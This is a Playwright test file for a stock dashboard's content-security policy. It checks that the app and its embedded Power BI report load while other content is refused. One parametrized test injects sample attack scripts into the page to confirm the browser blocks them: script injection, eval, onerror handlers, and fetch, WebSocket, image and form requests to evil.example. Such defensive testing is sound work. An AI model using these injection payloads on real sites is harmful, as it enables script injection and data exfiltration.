"""The content-security headers in Chromium: the page works with them, its report stands in a frame, and nothing else gets in."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route
from program import Program
from viewer import taken_over

pytestmark = pytest.mark.timeout(180)  # the program is started within the first test of the module
PASSWORD, REPORT = "word of mine", "https://app.powerbi.com/view?r=abc"
WATCH = """window.broken = []; document.addEventListener('securitypolicyviolation',
  (event) => broken.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile} ${event.sample}`));"""


@pytest.fixture(scope="module")
def room(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Program]:
    """The program open to a room, with a report."""
    program = Program(tmp_path_factory.mktemp("room"))
    program.write(
        market={"source": "simulator", "tickers": ["RELIANCE.NS", "AAPL"], "ticks_per_second": 2},
        dashboard={"port": 0, "host": "0.0.0.0", "password": PASSWORD, "live_refresh_seconds": 0.5, "powerbi_url": REPORT},
    )
    program.start()
    yield program
    program.kill()


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    """A browser's profile whose every page notes what its policy has refused; Power BI's server is a stub."""
    made = browser.new_context(viewport={"width": 1440, "height": 900}, color_scheme="light")
    made.add_init_script(WATCH)

    def elsewhere(route: Route) -> None:
        route.fulfill(body="<p id=report>the report</p>", content_type="text/html")

    made.route(re.compile(r"^https://"), elsewhere)
    yield made
    made.close()


class Opened:
    """The page after the login, with what it said on its console."""

    def __init__(self, context: BrowserContext, url: str) -> None:
        self.page, self.said = context.new_page(), list[str]()
        self.page.on("console", lambda message: self.said.append(message.text) if message.type == "error" else None)
        self.page.on("pageerror", lambda error: self.said.append(str(error)))
        self.page.goto(url)
        self.page.fill("#password", PASSWORD)
        self.broken: list[str] = self.page.evaluate("broken")
        self.page.click("button")
        self.page.wait_for_selector(".boxes path", timeout=20_000)
        taken_over(self.page)

    def refused(self) -> list[str]:
        """What the policy has refused, here and on the form before."""
        return self.broken + list(self.page.evaluate("broken"))


@pytest.fixture
def opened(context: BrowserContext, room: Program) -> Opened:
    """Logged in."""
    return Opened(context, room.health()["dashboard_url"])


def try_all(page: Page) -> None:
    """Every part of the page, once."""
    page.get_by_role("button", name="15 min").first.click()
    page.get_by_role("button", name="VWAP").click()
    page.wait_for_function("() => document.querySelector('[data-card=candles] h2').textContent === '15-minute candles'")
    page.wait_for_selector("[data-card=candles] .js-line")
    page.locator("[data-testid=stSelectbox] input").click()
    page.get_by_role("option", name="AAPL").click()
    page.wait_for_function("() => document.querySelector('.sw-price').innerText.includes('$')", timeout=15_000)
    page.locator(".sw-list tr[data-symbol='RELIANCE.NS']").click()
    page.wait_for_function("() => document.querySelector('.sw-price').innerText.includes('₹')", timeout=15_000)
    for form in ("CSV", "Excel", "Parquet"):
        with page.expect_download() as download:
            page.locator(".sw-export a", has_text=form).click()
        assert download.value.failure() is None
    page.locator("h2").first.click()
    page.keyboard.press("?")
    page.keyboard.press("Escape")
    page.keyboard.press("p")
    page.wait_for_selector(".sw-room svg")
    page.keyboard.press("Escape")
    page.emulate_media(color_scheme="dark")
    page.wait_for_selector(".sw-stage.sw-dark")
    page.reload()
    page.wait_for_selector(".sw-stage.sw-dark .boxes path", timeout=20_000)


def test_the_whole_page_works_and_nothing_is_refused(opened: Opened) -> None:
    try_all(opened.page)
    assert opened.refused() == []
    assert [text for text in opened.said if "401" not in text] == []  # 401: the form's own answer


def test_the_report_stands_in_its_frame(opened: Opened) -> None:
    frame = opened.page.locator("iframe")
    frame.scroll_into_view_if_needed()
    assert frame.get_attribute("src") == REPORT
    assert opened.page.frame_locator("iframe").locator("#report").inner_text() == "the report"
    assert opened.refused() == []


@pytest.mark.parametrize(
    ("directive", "script"),
    [
        ("frame-src", "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))"),
        ("frame-src", "document.querySelector('iframe').src = 'https://evil.example/'"),
        ("script-src-elem", "document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = 1' }))"),
        ("script-src-elem", "document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))"),
        ("script-src", "setTimeout(() => { try { eval('window.ran = 1') } catch { } })"),
        ("script-src-attr", "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')"),
        ("connect-src", "fetch('https://evil.example/').catch(() => {})"),
        ("connect-src", "try { new WebSocket('wss://evil.example/') } catch { }"),
        ("img-src", "new Image().src = 'https://evil.example/x.png'"),
        ("form-action", "document.body.append(Object.assign(document.createElement('form'), { action: 'https://evil.example/' })); "
                        "document.forms[document.forms.length - 1].submit()"),
    ],
)  # fmt: skip
def test_nothing_else_gets_in_or_out(opened: Opened, directive: str, script: str) -> None:
    opened.page.evaluate(f"() => {{ {script}; }}")
    opened.page.wait_for_function("directive => broken.some((said) => said.startsWith(`${directive} `))", arg=directive)
    assert opened.page.evaluate("window.ran") is None
    assert not [frame.url for frame in opened.page.frames if "evil" in frame.url]


def test_another_site_cannot_frame_the_page(context: BrowserContext, room: Program) -> None:
    page = context.new_page()
    page.goto("https://class.example/")
    page.evaluate("url => document.body.append(Object.assign(document.createElement('iframe'), { src: url }))",
                  room.health()["dashboard_url"])  # fmt: skip
    page.wait_for_function("() => document.querySelector('iframe').contentDocument === null")
    assert page.frame_locator("iframe").locator("#password, .stApp").count() == 0


@pytest.mark.parametrize("size", [(1440, 900), (1920, 1080), (1280, 800), (1024, 768)])
def test_the_address_for_the_room_covers_nothing(opened: Opened, size: tuple[int, int]) -> None:
    page = opened.page
    page.set_viewport_size({"width": size[0], "height": size[1]})
    page.locator("h2").first.click()
    page.keyboard.press("p")
    page.wait_for_selector(".sw-room svg")
    seen: dict[str, Any] = page.evaluate(  # with the longest numbers: those of the hour would do in one hour and not in another
        """() => { document.querySelector('.sw-price').lastChild.textContent = '1,42,350.00';
          document.querySelector('.sw-change').firstChild.textContent = '▲ +12,350.00\u2002+12.67 % ';
          document.querySelector('.sw-stats b').textContent = '1,30,000.00';
          const room = document.querySelector('.sw-room').getBoundingClientRect();
          const over = [...document.querySelectorAll('.sw-card, .sw-row, .sw-head, .sw-banner, .sw-list, .sw-alerts, .sw-export, .sw-leave')]
            .filter((part) => { const box = part.getBoundingClientRect(); return box.width && box.right > room.left &&
              box.left < room.right && box.bottom > room.top && box.top < room.bottom; });
          const head = document.querySelector('.sw-head').getBoundingClientRect(), stats = document.querySelector('.sw-stats');
          const shown = [...stats.children].filter((part) => part.getBoundingClientRect().width &&
            part.getBoundingClientRect().bottom <= stats.getBoundingClientRect().bottom + 1);
          return { over: over.map((part) => part.className), bottom: room.bottom, wide: document.documentElement.scrollWidth,
            right: Math.max(...shown.map((part) => part.getBoundingClientRect().right)) - head.right, shown: shown.map((part) => part.dataset.stat) }; }"""
    )
    assert seen["right"] <= 1
    assert seen["shown"][0] == "Previous close"
    assert seen["over"] == []
    assert seen["bottom"] <= size[1]  # seen without scrolling
    assert seen["wide"] <= size[0]
